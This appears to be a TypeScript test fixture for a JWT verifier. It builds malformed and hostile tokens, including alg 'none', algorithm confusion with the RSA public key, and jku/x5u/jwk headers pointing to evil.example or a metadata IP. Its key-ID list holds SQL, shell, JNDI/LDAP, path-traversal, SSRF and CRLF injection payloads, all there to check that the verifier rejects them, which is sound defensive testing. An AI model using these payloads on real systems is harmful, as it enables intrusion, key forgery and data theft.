/** Tokens whose header is not that of a token for this use, or asks for more than a signature check. */
import type { TokenRefusal } from '../../src/index.ts'
import { jwk, mint, otherRsa, part, rsa, sealHmac, sealRsa } from '../minted-tokens.ts'
import { type HostileToken, hostile, type Minting, secretRules } from './minting.ts'

export function hostileHeaders(minting: Minting): HostileToken[] {
  return [...unreadable(minting), ...demanding(minting), ...kinds(minting), ...algorithmNames(minting), ...swaps(minting), ...keyIds(minting)]
}

const bytes = (...values: (string | number[])[]) => Buffer.concat(values.map((value) => Buffer.from(value as string))).toString('base64url')
const shown = (value: unknown) => JSON.stringify(value) ?? 'nothing'

function unreadable({ claims, parts }: Minting): HostileToken[] {
  const written = (what: string, text: string, reason: TokenRefusal) => hostile([[what, mint(claims(), text), reason]])
  const raw = (what: string, header: string, reason: TokenRefusal) => hostile([[what, sealRsa(`${header}.${parts[1]}`), reason]])
  return [
    ...written('a header that is not JSON', '{"alg":', 'header_not_json'),
    ...written('a header with a comma too many', '{"alg":"RS256",}', 'header_not_json'),
    ...written('a header in single quotes', "{'alg':'RS256'}", 'header_not_json'),
    ...written('a header with a comment', '{"alg":"RS256"/*x*/}', 'header_not_json'),
    ...written('two headers in one', '{"alg":"RS256"}{"alg":"none"}', 'header_not_json'),
    ...written('a header with a line break in a text', '{"alg":"RS\n256"}', 'header_not_json'),
    ...raw('a header that is not UTF-8', bytes('{"alg":"RS256","kid":"', [0xff, 0xfe], '"}'), 'header_not_json'),
    ...raw('a header in overlong UTF-8', bytes('{"alg":"RS256","kid":"', [0xc0, 0xaf], '"}'), 'header_not_json'),
    ...raw('a header behind a byte order mark', bytes([0xef, 0xbb, 0xbf], '{"alg":"RS256"}'), 'header_not_json'),
    ...raw('a header in UTF-16', Buffer.from('{"alg":"RS256"}', 'utf16le').toString('base64url'), 'header_not_json'),
    ...['[]', '["RS256"]', 'null', '"RS256"', '256', 'true'].flatMap((text) => written(`a header that is ${text}`, text, 'header_not_object')),
    ...written('`alg` twice', '{"alg":"none","alg":"RS256","kid":"r1"}', 'header_duplicate_member'),
    ...written('`alg` twice, once in escapes', '{"\\u0061lg":"none","alg":"RS256","kid":"r1"}', 'header_duplicate_member'),
    ...written('`kid` twice', '{"alg":"RS256","kid":"r1","kid":"r2"}', 'header_duplicate_member'),
    ...written('`typ` twice', '{"alg":"RS256","kid":"r1","typ":"JWT","typ":"at+jwt"}', 'header_duplicate_member'),
    ...written('a member twice, deep inside the header', '{"alg":"RS256","kid":"r1","x":[{"a":1,"a":2}]}', 'header_duplicate_member'),
    ...written('an `alg` that only the prototype has', '{"__proto__":{"alg":"RS256"},"kid":"r1"}', 'header_no_algorithm'),
    ...written('an empty header', '{}', 'header_no_algorithm'),
    ...[null, 256, true, '', ['RS256'], { name: 'RS256' }].flatMap((alg) => written(`the \`alg\` ${shown(alg)}`, JSON.stringify({ alg, kid: 'r1' }), 'header_no_algorithm')),
  ]
}

function demanding({ claims, token }: Minting): HostileToken[] {
  const foreign = jwk(otherRsa.publicKey, {})
  const brought: readonly (readonly [string, unknown])[] = [
    ['jwk', foreign], ['jwk', null], ['jwk', jwk(rsa.publicKey, { kid: 'r1' })],
    ['jku', 'https://evil.example/jwks'], ['jku', 'http://169.254.169.254/'], ['jku', 'file:///etc/passwd'], ['jku', 'https://id.example/jwks'],
    ['x5u', 'https://evil.example/cert'], ['x5u', ''], ['x5c', ['MIIB']], ['x5c', []],
  ]
  return [
    ...[['exp'], [], ['b64'], 'exp', null, {}, ['http://example.invalid/UNDEFINED']].flatMap((crit) => hostile([[`\`crit\` ${shown(crit)}`, token(claims(), { crit }), 'header_critical']])),
    ...[false, 'false', 0, null, 'true'].flatMap((b64) => hostile([[`\`b64\` ${shown(b64)} without \`crit\``, token(claims(), { b64 }), 'header_unencoded_payload']])),
    ...brought.flatMap(([name, value], index) => hostile([[`\`${name}\` of its own (${index})`, mint(claims(), { alg: 'RS256', kid: 'r1', [name]: value }, otherRsa.privateKey), 'header_brings_key']])),
    ...hostile([['its own key in `jwk`, and no `kid`', mint(claims(), { alg: 'RS256', jwk: foreign }, otherRsa.privateKey), 'header_brings_key']]),
  ]
}

function kinds({ claims, token }: Minting): HostileToken[] {
  const foreign = ['logout+jwt', 'LOGOUT+JWT', 'secevent+jwt', 'application/secevent+JWT', 'token-introspection+jwt', 'oauth-authz-req+jwt', 'dpop+jwt', 'kb+jwt', 'entity-statement+jwt']
  return [...foreign, 1, null, true, ['JWT'], { typ: 'JWT' }].flatMap((typ) => hostile([[`the \`typ\` ${shown(typ)}`, token(claims(), { typ }), 'header_bad_type']]))
}

const unknownNames = [
  'none', 'NoNe', 'none ', 'rs256', 'RS256 ', ' RS256', 'RS-256', 'RS256\0', 'RSA256', 'SHA256', 'RS1', 'HS1', 'ES256K', 'RSA-OAEP', 'dir', 'A128KW', 'ECDH-ES', 'PBES2-HS256+A128KW',
  'constructor', '__proto__', 'toString', 'НS256', '../RS256', 'RS256,HS256', 'ES257', 'ML-DSA-44',
]

function algorithmNames({ parts, token, claims }: Minting): HostileToken[] {
  const signed = unknownNames.flatMap((alg) => hostile([[`the algorithm ${JSON.stringify(alg)}`, token(claims(), { alg }), 'algorithm_unknown']]))
  const made = ['none', 'NONE'].flatMap((alg) => hostile([[`the algorithm ${alg} with something for a signature`, `${part({ alg })}.${parts[1]}.AAAA`, 'algorithm_unknown']]))
  const leftOut = ['RS384', 'RS512', 'PS256', 'PS384', 'PS512', 'ES384', 'ES512', 'HS256', 'HS384', 'HS512', 'Ed25519'].flatMap((alg) =>
    hostile([[`${alg}, which the rules leave out`, token(claims(), { alg }), 'algorithm_not_allowed']]),
  )
  return [...signed, ...made, ...leftOut]
}

/** RFC 8725 §2.1: a public key, which everybody has, taken for a shared secret; and keys of other types. */
function swaps({ parts, claims }: Minting): HostileToken[] {
  const { publicKey } = rsa
  const pem = publicKey.export({ format: 'pem', type: 'spki' }).toString()
  const asSecret: readonly (readonly [string, string | Buffer])[] = [
    ['in PEM', pem], ['in PEM without its last line break', pem.trim()], ['in PEM with other line breaks', pem.replaceAll('\n', '\r\n')],
    ['in DER', publicKey.export({ format: 'der', type: 'spki' })], ['as PKCS #1', publicKey.export({ format: 'pem', type: 'pkcs1' }).toString()],
    ['as a JWK', JSON.stringify(publicKey.export({ format: 'jwk' }))], ['by its modulus', Buffer.from(publicKey.export({ format: 'jwk' }).n ?? '', 'base64url')],
  ]
  const input = `${part({ alg: 'HS256', kid: 'r1' })}.${parts[1]}`
  const wrongKeys: readonly (readonly [string, string])[] = [['RS256', 'e1'], ['RS256', 'd1'], ['ES256', 'r1'], ['ES256', 'd1'], ['EdDSA', 'r1'], ['EdDSA', 'e1']]
  return [
    ...asSecret.flatMap(([how, secret]) =>
      hostile([
        [`HMAC with the public key ${how}`, sealHmac(input, secret), 'algorithm_not_allowed'],
        [`HMAC with the public key ${how}, where HS256 is allowed, too`, sealHmac(input, secret), 'key_unknown', { algorithms: ['RS256', 'HS256'] }],
        [`HMAC with the public key ${how}, where there is a secret`, sealHmac(`${part({ alg: 'HS256' })}.${parts[1]}`, secret), 'bad_signature', secretRules],
      ]),
    ),
    ...wrongKeys.flatMap(([alg, kid]) => hostile([[`${alg} over the key ${kid}, which is of another type`, mint(claims(), { alg, kid }), 'key_unknown']])),
  ]
}

const injected = [
  'r9', 'R1', 'r1 ', ' r1', 'r1\0', '', '../../../../dev/null', '/proc/self/environ', 'file:///etc/passwd', "' OR 1=1 --", "r1' UNION SELECT 'AAAA", '$(id)', '`id`', '| id', `\${jndi:ldap://evil.example/a}`,
  '{{7*7}}', 'http://169.254.169.254/latest', '*)(uid=*', '__proto__', 'constructor', 'r1\r\nX-Evil: 1', 'ｒ1', 'r1\u200b',
]

function keyIds({ claims, token }: Minting): HostileToken[] {
  return [
    ...[1, null, true, ['r1'], { $ne: '' }, 'k'.repeat(257)].flatMap((kid) => hostile([[`the \`kid\` ${shown(kid).slice(0, 20)}`, token(claims(), { kid }), 'header_bad_kid']])),
    ...injected.flatMap((kid) => hostile([[`the \`kid\` ${JSON.stringify(kid)}`, mint(claims(), { alg: 'RS256', kid }, otherRsa.privateKey), 'key_unknown']])),
  ]
}
